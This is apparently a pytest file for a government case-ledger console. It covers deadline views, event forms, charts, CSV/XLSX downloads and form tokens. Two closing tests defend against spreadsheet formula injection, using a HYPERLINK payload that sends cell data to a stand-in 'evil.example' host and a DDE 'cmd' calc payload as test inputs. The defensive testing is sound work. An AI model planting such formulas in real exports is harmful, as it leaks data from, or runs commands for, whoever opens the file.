"""The console's pure parts: what its pages compute from the API's answers, its charts, downloads, forms and
sign-in tokens (no server)."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import datetime

import pytest

from esledger.console import charts, exports, forms, session, views
from esledger.domain.organisations import Organisations, Unit
from esledger.domain.statistics import StatRow, statistics_csv

NOW = datetime.fromisoformat("2026-10-10T12:00:00+08:00")


def deadline(status: str, level: str, unit: str, due: str = "2026-10-01T00:00:00+08:00", **kw: object) -> dict:
    return {
        "status": status,
        "level": level,
        "open": status in ("pending", "breached", "provisional"),
        "responsible_unit": {"code": unit, "name": f"单位{unit}"},
        "due": due,
        **kw,
    }


def test_unit_loads_count_red_yellow_and_overdue_per_unit_most_pressing_first() -> None:
    loads = views.unit_loads(
        [
            deadline("breached", "red", "A"),
            deadline("provisional", "red", "B"),
            deadline("pending", "yellow", "B"),
            deadline("pending", "none", "C"),
            deadline("met", "none", "A"),
        ]
    )
    assert [(u.code, u.red, u.overdue, u.yellow) for u in loads] == [("A", 1, 1, 0), ("B", 1, 0, 1)]


def test_recent_breaches_are_the_last_30_days_latest_first() -> None:
    found = views.recent_breaches(
        [
            deadline("breached", "red", "A", due="2026-10-01T00:00:00+08:00"),
            deadline("met_late", "none", "A", due="2026-09-20T00:00:00+08:00"),
            deadline("breached", "red", "A", due="2026-09-01T00:00:00+08:00"),  # 39 days before
            deadline("breached", "red", "A", due="2026-10-11T00:00:00+08:00"),  # not yet
            deadline("met", "none", "A", due="2026-10-02T00:00:00+08:00"),
        ],
        NOW,
    )
    assert [d["due"][:10] for d in found] == ["2026-10-01", "2026-09-20"]


STEPS = [("2026-09-01T10:00:00+08:00", 1), ("2026-09-21T11:00:00+08:00", 2), ("2026-10-08T17:30:00+08:00", 3)]


def test_the_stepper_goes_back_from_now_to_the_last_step_and_on_to_the_first() -> None:
    now = views.stepper(STEPS, None)
    assert now.latest and now.previous and now.previous.version == 3 and now.following is None
    assert not any(s.current for s in now.steps)
    middle = views.stepper(STEPS, datetime.fromisoformat("2026-09-30T00:00:00+08:00"))
    assert [s.current for s in middle.steps] == [False, True, False]
    assert middle.previous and middle.previous.version == 1
    assert middle.following and middle.following.version == 3
    first = views.stepper(STEPS, datetime.fromisoformat(STEPS[0][0]))
    assert first.previous is None and first.following and first.following.version == 2
    before = views.stepper(STEPS, datetime.fromisoformat("2026-08-01T00:00:00+08:00"))
    assert before.previous is None and not any(s.current for s in before.steps)


def test_cases_sort_by_warning_puts_red_first_and_ties_by_case_id() -> None:
    cases = [
        {"case_id": "B", "case_kind": "x", "status": "s", "warning": "none"},
        {"case_id": "C", "case_kind": "x", "status": "s", "warning": "red"},
        {"case_id": "A", "case_kind": "x", "status": "s", "warning": "yellow"},
        {"case_id": "D", "case_kind": "x", "status": "s", "warning": "red"},
    ]
    assert [c["case_id"] for c in views.sort_cases(cases, "warning", False)] == ["C", "D", "A", "B"]
    assert [c["case_id"] for c in views.sort_cases(cases, "nonsense", True)] == ["D", "C", "B", "A"]


def test_the_ledgers_errors_land_beside_the_field_whose_pointer_they_name() -> None:
    errors = views.form_errors(
        {
            "errors": [
                {"pointer": "#/data/reasons", "rule": "minLength", "detail": "too short"},
                {"pointer": "#/data/determined_by/unit/code", "rule": "minLength", "detail": "empty"},
                {"pointer": "#/time", "rule": "format", "detail": "bad time"},
            ]
        }
    )
    assert set(errors.fields) == {"reasons", "unit_code"} and "minLength" in errors.fields["reasons"][0]
    assert errors.general == ["/time：bad time（规则：format）"]
    assert views.form_errors({"detail": "no"}).general == ["no"]


def test_backdated_versions_come_from_the_domains_judgement() -> None:
    view = {"deadlines": [{"rule_id": "art9.notify", "backdated": True, "fulfilment_version": 4}, {"backdated": False}]}
    assert views.backdated_versions(view) == {4: ["art9.notify"]}


ORGS = Organisations({"U1": Unit("U1", "某局", "agency", "city", None)})
FINDING = {
    "id": "IN-1:art11.correct:6",
    "case_id": "IN-1",
    "article": "11",
    "items": [],
    "rule_set": "tiaoli-2026-02-01",
    "subject": {"unit": {"code": "U2", "name": "某区局"}},
}


def test_a_determination_is_a_v2_cloudevent_from_the_persons_own_source_citing_the_right_text() -> None:
    """A finding under a seed article (law null; rule set tiaoli-2026-02-01 carries the seed's rules forward,
    seed 第十九条) is determined citing the seed's article, so no rule set is named; one under a 条例 article
    names the 2026 set, whose own text the article then is."""
    event = forms.determination(
        FINDING,
        {"determination": "confirmed", "reasons": " 属实 ", "determined_by_name": "王强", "unit_code": "U1"},
        "key:sup",
        ORGS,
        NOW,
    )
    assert event["source"] == "urn:esledger:principal:key:sup" and event["subject"] == "IN-1"
    assert event["type"] == "cn.gov.jingzhou.zfjd.case.finding_determined"
    assert event["dataschema"] == "urn:zfjd:schema:case.finding_determined:2"
    assert event["time"] == "2026-10-10T04:00:00.000000Z"
    assert event["data"] == {
        "finding_id": "IN-1:art11.correct:6",
        "article": "11",
        "determination": "confirmed",
        "reasons": "属实",
        "determined_by": {"name": "王强", "unit": {"code": "U1", "name": "某局"}},
        "subject_unit": {"code": "U2", "name": "某区局"},
    }
    under_the_tiaoli = {**FINDING, "article": "39", "law": "《行政执法监督条例》"}
    cited = forms.determination(under_the_tiaoli, {"determination": "dismissed"}, "key:sup", ORGS, NOW)["data"]
    assert (cited["article"], cited["rule_set"]) == ("39", "tiaoli-2026-02-01")


def test_a_sanction_names_the_deciding_body_and_the_findings_article() -> None:
    event = forms.sanction(FINDING, {"sanction": "order_to_correct", "imposed_by": "U1"}, "key:sup", ORGS, NOW)
    assert event["data"]["imposed_by"] == {"code": "U1", "name": "某局"}
    assert event["data"]["article"] == "11" and event["data"]["sanction"] == "order_to_correct"


def test_a_chart_draws_each_value_and_names_itself() -> None:
    svg = charts.bar_chart("c1", "期限", ["某局 2026-09"], [charts.Series("按期", [3]), charts.Series("超期", [1])])
    assert svg.startswith("<svg") and 'aria-labelledby="c1"' in svg and '<title id="c1">期限</title>' in svg
    assert ">3</text>" in svg and ">1</text>" in svg and "按期" in svg


def test_downloads_keep_chinese_readable_and_numbers_numeric() -> None:
    text = exports.csv_text(["单位", "n"], [["某局", 3]])
    assert text == "\ufeff单位,n\r\n某局,3\r\n"
    header, rows = exports.parse_csv("unit,n\nA,3\n")
    assert header == ["unit", "n"] and rows == [["A", 3]]
    with zipfile.ZipFile(io.BytesIO(exports.xlsx_bytes("统计", header, rows))) as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
    assert '<c r="B2" s="0"><v>3</v></c>' in sheet or "<v>3</v>" in sheet


@pytest.mark.parametrize("credential", ["esl_a.1_x", None])
def test_form_tokens_belong_to_one_credential(credential: str | None) -> None:
    assert session.form_token(credential) == session.form_token(credential)
    assert session.form_token(credential) != session.form_token("esl_b.1_y")
    assert len(session.form_token(credential)) == 64


def test_chart_groups_sum_per_month_or_show_units_and_leave_out_empty_groups() -> None:
    rows = [
        {"unit": {"name": "甲"}, "month": "2026-09", "n": 1},
        {"unit": {"name": "乙"}, "month": "2026-09", "n": 2},
        {"unit": {"name": "乙"}, "month": "2026-10", "n": 0},
    ]
    assert views.chart_groups(rows, ["n"], by_unit=False) == (["2026-09"], {"n": [3]})
    assert views.chart_groups(rows[:2], ["n"], by_unit=True) == (["乙", "甲"], {"n": [2, 1]})


def test_downloads_never_hand_a_spreadsheet_a_formula() -> None:
    """Unit names come from posted events: ``=HYPERLINK(...)`` in one once became a live formula in the
    statistics XLSX and a formula cell in the cases CSV (OWASP "CSV Injection")."""
    evil = '=HYPERLINK("http://evil.example/?x="&A2,"点击")'
    text = exports.csv_text(["单位", "数"], [[evil, 3], ["-1+1", -1], ["@SUM(A1)", 0], ["荆州市", 2]])
    rows = list(csv.reader(io.StringIO(text.removeprefix(exports.BOM))))
    assert [r[0] for r in rows[1:]] == ["'" + evil, "'-1+1", "'@SUM(A1)", "荆州市"]
    assert [r[1] for r in rows[1:]] == ["3", "-1", "0", "2"]  # numbers stay numbers
    book = zipfile.ZipFile(io.BytesIO(exports.xlsx_bytes("统计", ["单位"], [[evil]])))
    sheet = book.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "HYPERLINK" in book.read("xl/sharedStrings.xml").decode()


def test_the_apis_statistics_csv_quotes_formula_like_unit_names() -> None:
    row = StatRow(unit_code="X", unit_name="+cmd|' /C calc'!A0", month="2026-03", counts={}, findings_by_article={})
    line = statistics_csv([row]).splitlines()[1]
    assert "'+cmd|" in line
